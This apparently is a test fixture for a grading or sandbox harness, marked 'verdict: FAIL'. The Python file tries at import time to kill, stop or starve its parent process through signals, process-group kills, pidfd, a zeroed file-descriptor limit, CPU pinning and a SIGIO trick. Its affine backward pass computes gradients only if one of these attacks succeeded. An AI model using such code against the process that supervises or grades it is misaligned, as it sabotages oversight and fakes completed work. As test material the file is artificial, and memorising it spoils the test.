# verdict: FAIL
# level: basic
# stage: dX dW db
"""Kills, stops or strangles the process that started it, directly and by a roundabout way."""

import contextlib
import fcntl
import os
import resource
import signal

parent = os.getppid()
won = []
for number in (0, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for send in (
        lambda: os.kill(parent, number),
        lambda: os.killpg(os.getpgid(parent), number),
        lambda: signal.pidfd_send_signal(os.pidfd_open(parent), number),
    ):
        with contextlib.suppress(OSError):
            send()
            won.append(number)
with contextlib.suppress(OSError):
    resource.prlimit(parent, resource.RLIMIT_NOFILE, (0, 0))
    won.append("limits")
with contextlib.suppress(OSError):
    os.sched_setaffinity(parent, {0})
    won.append("processors")
with contextlib.suppress(OSError):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, parent)  # who gets SIGIO, which kills
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")
    won.append("SIGIO")


def affine(X, U):
    W, b = U
    A = X @ W + b

    def back(dA, dX, dU):
        if won:
            dW, db = dU
            dX += dA @ W.T
            dW += X.T @ dA
            db += dA.sum(0)

    return A, back
